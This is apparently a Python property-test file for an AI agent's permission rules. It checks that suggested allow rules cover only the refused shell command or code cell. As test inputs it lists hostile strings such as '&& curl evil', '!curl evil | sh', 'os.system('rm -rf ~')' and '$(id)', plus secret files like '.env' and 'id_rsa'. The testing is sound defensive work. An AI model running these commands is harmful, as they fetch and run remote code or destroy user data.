"""Refusal messages suggest only rules as narrow as the refused action (#39).

Headless ``run`` names the ``--allow`` value that would have let a refused action run
(``rulepatterns.exact_pattern``). It must allow that action and nothing with another effect: not the
command with more arguments, a redirection, a pipe or another command after it, not another cell.
On main a redirect suggested ``shell:echo *`` and any code ``code:*``.
"""

from __future__ import annotations

from pathlib import Path

from hypothesis import assume, given, settings
from hypothesis import strategies as st

from freeact_tui.cli.run import allow_hint, parse_rule
from freeact_tui.permissions.patterns import exact_pattern, proposed_pattern
from freeact_tui.permissions.rules import PermissionRules
from freeact_tui.shell.words import split_command
from freeact_tui.toolcalls import CodeAction, JsonToolCall, ShellAction, ShellScript, ToolCall

PROGRAMS = ["echo", "cat", "ls", "git", "grep", "python", "rm", "make", "sed"]
ARGS = st.sampled_from(
    ["x", "-n", "*", "*.py", "a?b", "[ab]", "'a b'", '"q"', "--flag=v", "sub", "status", ".", "-rf"]
)
REDIRECTS = [
    "> out.txt",
    ">> log",
    "2> err",
    "< in.txt",
    "| sh",
    "; rm -rf x",
    "&& curl evil",
    "& sleep 1",
    "$(id)",
]
EXTRA = st.sampled_from(["extra", "-rf", "/", "*", "../x", "--output=f", "x y"])


def _allowed_by(hint: str, call: ToolCall, tmp: Path) -> bool:
    kind, pattern = parse_rule(hint)
    rules = PermissionRules(None, defaults=False, working_dir=tmp)
    rules.add(kind, pattern, scope="session")
    return rules.check(call) == "allow"


commands = st.builds(
    lambda program, args, tail: " ".join([program, *args]) + (f" {tail}" if tail else ""),
    st.sampled_from(PROGRAMS),
    st.lists(ARGS, max_size=3),
    st.one_of(st.just(""), st.sampled_from(REDIRECTS)),
)


@settings(max_examples=300, deadline=None)
@given(command=commands, extra=EXTRA, tail=st.sampled_from(REDIRECTS))
def test_the_suggested_rule_allows_the_command_and_nothing_that_does_more(
    command: str, extra: str, tail: str
) -> None:
    assume(split_command(command) == [command])  # the app asks (and refuses) one simple command at a time
    tmp = Path("/nonexistent-working-dir")
    refused = ShellAction(command)
    hint = allow_hint(refused)
    assert _allowed_by(hint, refused, tmp), hint
    for other in (f"{command} {extra}", f"{command} {tail}", f"{extra} {command}"):
        if other != command:
            assert not _allowed_by(hint, ShellAction(other), tmp), (hint, other)


@settings(max_examples=100, deadline=None)
@given(
    code=st.sampled_from(["print(1)", "import os\nos.listdir('.')", "x = 6 * 7", "!ls"]),
    extra=st.sampled_from(["\nimport os; os.system('rm -rf ~')", "; print(2)", "\n!curl evil | sh"]),
)
def test_the_suggested_rule_for_code_is_that_cell(code: str, extra: str) -> None:
    tmp = Path("/nonexistent-working-dir")
    for make in (CodeAction, ShellScript):
        refused = make(code)
        hint = allow_hint(refused)
        assert _allowed_by(hint, refused, tmp)
        assert not _allowed_by(hint, make(code + extra), tmp)


def test_the_reported_redirect_and_code_cases() -> None:
    assert allow_hint(ShellAction("echo hi > notes.txt")) == "shell:echo hi > notes.txt"
    assert allow_hint(CodeAction("print(1)")).startswith("code:cell:")
    assert allow_hint(ShellAction("ls *.py")) == "shell:ls [*].py"
    assert allow_hint(JsonToolCall("fs_*_tool")) == "tool:fs_[*]_tool"
    # the dialog's proposal no longer offers a wildcard a redirect could never match
    assert proposed_pattern(ShellAction("echo hi > notes.txt")) == "echo hi > notes.txt"
    assert exact_pattern(ShellAction("cat a | sh")) == "cat a | sh"


_READS = st.sampled_from(["open({p!r}).read()", "from pathlib import Path\nPath({p!r}).read_text()", "print({p!r})",
                          "open({p!r}, 'w').write('x')", "import os\nos.listdir({p!r})"])  # fmt: skip
_NAMES = st.sampled_from([".env", "sub/.env", ".env.local", "notes.txt", "id_rsa", ".netrc", "data.csv", "sub"])


@settings(max_examples=120, deadline=None)
@given(form=_READS, name=_NAMES)
def test_a_suggested_allow_rule_always_allows_the_refused_action(form: str, name: str) -> None:
    """A suggestion never names a class (or cell) that would not allow the refused action: when a rule
    that asks decides it (the secrets' rules come before every allow rule), nothing is suggested."""
    from freeact_tui.effects import read_effects

    tmp = Path("/nonexistent-working-dir")
    call = CodeAction(form.format(p=name))
    rules = PermissionRules(None, working_dir=tmp)
    if rules.check(call) != "ask":
        return
    hint = allow_hint(call, read_effects(call, tmp).effect_class, rules)
    if hint:
        kind, pattern = parse_rule(hint)
        rules.add(kind, pattern, scope="session")
        assert rules.check(call) == "allow", (call.code, hint)


def test_a_read_of_dotenv_suggests_no_allow_rule() -> None:
    tmp = Path("/nonexistent-working-dir")
    rules = PermissionRules(None, working_dir=tmp)
    call = CodeAction("open('.env').read()")
    assert rules.check(call) == "ask"
    assert allow_hint(call, "reads", rules) == ""
